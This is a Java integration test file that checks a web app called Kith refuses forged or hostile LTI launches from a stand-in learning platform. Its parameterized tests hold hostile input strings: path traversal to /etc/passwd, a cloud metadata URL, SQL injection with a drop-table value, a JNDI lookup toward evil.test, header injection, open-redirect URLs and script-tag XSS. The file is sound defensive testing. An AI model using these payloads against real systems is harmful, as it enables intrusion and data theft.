package org.kith.webapp.running;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.kith.lti.ClaimNames;
import org.kith.lti.testing.SignedLaunch;

/** Launches nobody sends by mistake. {@link AttackListTest} says which attack is tried where. */
@OnRunningKith
class HostileLaunchIT {

    private static final int TEN_KILOBYTES = 10_240;

    private final LmsStandIn lms = LmsStandIn.canvas();
    private final WebBrowser browser = new WebBrowser();

    /** An invented key name makes Kith fetch the keys again, which it does seldom; so it must know the true ones before. */
    @BeforeAll
    static void aTrueLaunchComesFirst() {
        LmsStandIn.canvas().opens(SignedLaunch.canvasTeacher());
    }

    static Stream<Named<Forgery>> forgeries() {
        return Stream.of(Forgery.values()).map(forgery -> Named.of(forgery.toString(), forgery));
    }

    @ParameterizedTest
    @MethodSource("forgeries")
    void isNotBelieved(Forgery forgery) {
        LoginBegun begun = lms.begins(browser);
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).with("nonce", begun.nonce());

        PanelPage page = browser.post(lms.answersWith(begun, forgery.token(launch)));

        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../etc/passwd",
                "https://evil.test/jwks",
                "http://169.254.169.254/latest/meta-data",
                "' or 1=1 --",
                "x'; drop table platform_registration; --",
                "${jndi:ldap://evil.test/a}",
                "\r\nSet-Cookie: a=b"
            })
    void mayNameItsKeyAsItLikesAndGetsNowhere(String name) {
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).withHeader("kid", name);

        PanelPage page = lms.opens(browser, launch);

        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
        assertThat(page.cookies()).isEmpty();
    }

    @Test
    void mayNotNameItsKeyInTenKilobytes() {
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).withHeader("kid", "k".repeat(TEN_KILOBYTES));

        PanelPage page = lms.opens(browser, launch);

        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.test/lti/launch",
                "//evil.test/lti/launch",
                "javascript:alert(1)",
                "http://localhost@evil.test/lti/launch",
                "http://localhost.evil.test/lti/launch",
                "data:text/html,<script>alert(1)</script>"
            })
    void leadsNobodyOutOfKith(String target) {
        LoginBegun begun = LoginBegun.by(browser.post(lms.login().with("target_link_uri", target)));
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).with(ClaimNames.TARGET_LINK_URI, target);

        PanelPage page = browser.post(lms.answers(begun, launch));

        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
        assertThat(page.header("Location")).isEmpty();
    }

    @Test
    void withTheNonceOfAnotherRegistrationIsNotBelieved() {
        LoginBegun elsewhere = LmsStandIn.otherCanvas().begins(browser);
        LoginBegun begun = lms.begins(browser);
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).with("nonce", elsewhere.nonce());

        PanelPage page = browser.post(lms.answersWith(begun, launch.token()));

        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
    }

    @Test
    void withANonceThatWasUsedIsNotBelieved() {
        LoginBegun first = lms.begins(browser);
        browser.post(lms.answers(first, lms.says(SignedLaunch.canvasTeacher())));
        LoginBegun second = lms.begins(browser);
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).with("nonce", first.nonce());

        PanelPage page = browser.post(lms.answersWith(second, launch.token()));

        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
    }

    @Test
    void throughTheDeploymentOfAnotherRegistrationWaitsForAnAdministrator() {
        LmsStandIn other = LmsStandIn.fresh("canvas");
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher()).with(ClaimNames.DEPLOYMENT_ID, other.origin());

        PanelPage page = lms.opens(browser, launch);

        assertThat(page.outcome()).isEqualTo(Outcome.NOT_FOR_YOU);
    }

    @Test
    void isNotShownWhatItMadeTheBrowserBringBeforeTheLogin() {
        Form answer = lms.answers(lms.begins(browser), lms.says(SignedLaunch.canvasTeacher()));

        PanelPage page = new WebBrowser().post(answer.with("state", "<script>alert(1)</script>"));

        assertThat(page.runsForeignScript()).isFalse();
        assertThat(page).satisfies(HostileLaunchIT::isARefusal);
    }

    @Test
    void makesNoGuardianOfALearner() {
        School school = new School(lms);
        SignedLaunch launch = lms.says(SignedLaunch.canvasStudent())
                .with(ClaimNames.ROLE_SCOPE_MENTOR, List.of("somebody's child"))
                .withCustom(ClaimNames.OBSERVEES, "somebody's child");

        PanelPage page = school.opens(launch).first();

        assertThat(page.heading()).startsWith("Your week");
    }

    @Test
    void mayNameNoMoreChildrenThanASchoolHas() {
        List<String> crowd =
                IntStream.range(0, 5_000).mapToObj(child -> "child-" + child).toList();
        SignedLaunch launch =
                lms.says(SignedLaunch.canvasMentor().withCustom(ClaimNames.OBSERVEES, String.join(",", crowd)));

        PanelPage page = lms.opens(browser, launch);

        assertThat(page.outcome()).isEqualTo(Outcome.SHOWN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{\"observees\":null}", "{\"observees\":7}", "{\"observees\":\"$Var\"}", "[]", "null"})
    void isUnderstoodWithOddCustomFields(String custom) {
        LoginBegun begun = lms.begins(browser);
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher())
                .with("nonce", begun.nonce())
                .without(ClaimNames.CUSTOM);
        String payload =
                launch.payload().replaceFirst("\\{", "{\"%s\":%s,".formatted(ClaimNames.CUSTOM, quoted(custom)));

        PanelPage page = browser.post(lms.answersWith(begun, launch.token(payload)));

        assertThat(page.heading()).startsWith("Families");
    }

    @Test
    void isShownAsTextWhateverItsNamesSay() {
        SignedLaunch launch = lms.says(SignedLaunch.canvasTeacher())
                .with(
                        ClaimNames.CONTEXT,
                        Map.of(
                                "id",
                                "hostile",
                                "title",
                                "<script>alert(1)</script>",
                                "type",
                                List.of("CourseSection")));

        PanelPage page = lms.opens(browser, launch);

        assertThat(page.runsForeignScript()).isFalse();
        assertThat(page.heading()).contains("<script>alert(1)</script>");
    }

    private static String quoted(String replacement) {
        return Matcher.quoteReplacement(replacement);
    }

    private static void isARefusal(PanelPage page) {
        assertThat(page.outcome().isRefusal()).isTrue();
        assertThat(page.referenceCode()).isPresent();
        assertThat(page.tellsInternals()).isFalse();
        assertThat(page.visit()).isEmpty();
    }
}
